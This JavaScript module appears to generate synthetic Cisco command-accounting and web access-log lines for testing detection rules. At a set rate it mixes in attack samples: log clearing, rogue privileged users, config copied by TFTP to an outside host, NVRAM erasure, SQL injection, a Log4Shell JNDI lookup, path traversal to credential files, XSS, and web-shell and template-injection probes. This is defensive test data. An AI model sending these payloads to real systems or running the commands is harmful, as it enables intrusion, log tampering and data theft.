// What a router says about the commands typed on it, and what a web server says about its requests.

/** Command accounting of Cisco devices without the syslog header, about 150 bytes. */
export function ciscoCommands(words, suspicious) {
  const shapes = [
    (user, cmd) => `%PARSER-5-CFGLOG_LOGGEDCMD: User:${user}  logged command:${cmd}`,
    (user, cmd) =>
      `%HA_EM-6-LOG: CLIaccounting: ${user} on vty${words.n(16)} (${words.client()}) priv ${words.pick([1, 7, 15])}: ${cmd}`,
  ];
  return () => {
    const command = words.chance(suspicious) ? words.pick(CISCO_ATTACKS) : words.pick(CISCO_COMMANDS);
    return words.pick(shapes)(words.user(), command(words));
  };
}

const CISCO_COMMANDS = [
  (w) => `interface GigabitEthernet${w.n(4)}/${w.n(2)}/${w.n(48)}`,
  (w) => `description ${w.name()}`,
  (w) => `switchport access vlan ${w.n(4000)}`,
  (w) => `ip address ${w.client()} 255.255.255.0`,
  (w) => `ip route ${w.client()} 255.255.255.255 ${w.client()} name ${w.slug()}`,
  (w) => `router ospf ${w.n(100)}`,
  (w) => `network ${w.client()} 0.0.0.255 area ${w.n(20)}`,
  (w) => `spanning-tree vlan ${w.n(4000)} priority ${4096 * w.n(15)}`,
  (w) => `neighbor ${w.client()} remote-as ${64_512 + w.n(1000)}`,
  (w) => `standby ${w.n(255)} priority ${w.n(255)}`,
  (w) => `ping ${w.client()} repeat ${w.n(100)}`,
  (w) => `terminal length ${w.n(100)}`,
  (w) => `vlan ${w.n(4000)}`,
  (w) => `qos queue-limit ${w.n(100)}`,
  () => 'exit',
  () => 'end',
  () => 'write memory',
];
const CISCO_ATTACKS = [
  () => 'show running-config',
  () => 'no logging buffered',
  () => 'clear logging',
  () => 'no aaa new-model',
  (w) => `username ${w.word()} privilege 15 secret ${w.hex(8)}`,
  (w) => `copy running-config tftp://${w.stranger()}/${w.word()}`,
  (w) => `monitor capture point ip cef ${w.word()} all both`,
  () => 'crypto pki export',
  () => 'erase nvram:',
  () => 'show history',
  (w) => `access-list ${100 + w.n(90)} permit tcp host ${w.client()} any eq ${w.n(1024)}`,
  () => 'shutdown',
  (w) => `ntp server ${w.stranger()}`,
];

/** One request, in parts: `fields` are Sigma's web server names. */
export function webRequests(words, suspicious) {
  const agents = userAgents(words);
  const sites = words.list(40, () => `${words.word()}.example.com`);
  return () => {
    const uri = words.chance(suspicious) ? words.pick(WEB_ATTACKS)(words) : words.pick(PAGES)(words);
    const [stem, query = ''] = uri.split('?');
    return {
      'c-ip': words.stranger(),
      'cs-method': words.pickCommon(['GET', 'GET', 'GET', 'POST', 'HEAD', 'PUT', 'OPTIONS', 'DELETE']),
      'c-uri': uri,
      'cs-uri-stem': stem,
      'cs-uri-query': query,
      'sc-status': words.pickCommon([200, 200, 304, 302, 301, 404, 206, 403, 500]),
      'sc-bytes': words.n(90_000),
      'cs-host': words.pickCommon(sites),
      'cs-referer': words.chance(0.4) ? '-' : `https://${words.pickCommon(sites)}/${words.slug()}`,
      'cs-user-agent': words.pickCommon(agents),
    };
  };
}

/** The request in the combined format. */
export function combinedLine(request, at) {
  const [, day, month, year, time] = new Date(at).toUTCString().split(' ');
  return `${request['c-ip']} - - [${day}/${month}/${year}:${time} +0000] "${request['cs-method']} ${request['c-uri']} HTTP/1.1" ${request['sc-status']} ${request['sc-bytes']} "${request['cs-referer']}" "${request['cs-user-agent']}"`;
}

const PAGES = [
  () => '/',
  (w) => `/${w.word()}/${w.slug()}`,
  (w) => `/${w.word()}/${w.slug()}?page=${w.n(90)}&sort=${w.word()}`,
  (w) => `/api/v${1 + w.n(3)}/${w.word()}s/${w.n(90_000)}`,
  (w) => `/api/v${1 + w.n(3)}/${w.word()}s?${w.word()}=${w.hex(8)}&limit=${w.n(100)}&offset=${w.n(9000)}`,
  (w) => `/static/${w.word()}.${w.hex(8)}.${w.pick(['js', 'css', 'woff2', 'svg', 'png', 'map'])}`,
  (w) => `/images/${2015 + w.n(12)}/${w.slug()}-${w.n(2000)}x${w.n(2000)}.jpg`,
  (w) => `/search?q=${w.word()}+${w.word()}+${w.word()}&lang=${w.pick(['en', 'de', 'fr'])}`,
  (w) => `/login?next=%2F${w.word()}%2F${w.n(999)}`,
  (w) => `/download/${w.slug()}.${w.pick(['pdf', 'zip', 'csv'])}?token=${w.hex(24)}`,
  () => '/favicon.ico',
  () => '/robots.txt',
];
const WEB_ATTACKS = [
  (w) => `/${w.word()}?id=${w.n(99)}%20UNION%20SELECT%20user,password%20FROM%20users--`,
  (w) => `/${w.word()}?x=\${jndi:ldap://${w.stranger()}/${w.word()}}`,
  (w) => `/cgi-bin/.%2e/.%2e/.%2e/etc/passwd?${w.word()}`,
  (w) => `/${w.word()}?q=<script>alert(${w.n(9)})</script>`,
  () => '/.git/config',
  (w) => `/${w.word()}.php?cmd=whoami`,
  (w) => `/${w.word()}/../../../../windows/win.ini`,
  (w) => `/${w.word()}?name={{7*7}}&c=<%25${w.word()}%25>`,
];

function userAgents(words) {
  const systems = [
    ...['Windows NT 10.0; Win64; x64', 'Macintosh; Intel Mac OS X 10_15_7', 'X11; Linux x86_64'],
    ...[
      'iPhone; CPU iPhone OS 18_0 like Mac OS X',
      'Linux; Android 15; Pixel 9',
      'X11; CrOS x86_64 14541.0.0',
    ],
  ];
  const browsers = words.list(120, () => {
    const version = 110 + words.n(40);
    return words.pick([
      (os) =>
        `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${version}.0.0.0 Safari/537.36`,
      (os) => `Mozilla/5.0 (${os}; rv:${version}.0) Gecko/20100101 Firefox/${version}.0`,
      (os) =>
        `Mozilla/5.0 (${os}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.${words.n(9)} Safari/605.1.15`,
      (os) =>
        `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${version}.0.0.0 Safari/537.36 Edg/${version}.0.${words.n(3000)}.${words.n(99)}`,
    ])(words.pick(systems));
  });
  const bots = [
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
    'Prometheus/2.53.0',
    'kube-probe/1.31',
    'ELB-HealthChecker/2.0',
  ];
  return [...browsers, ...bots];
}
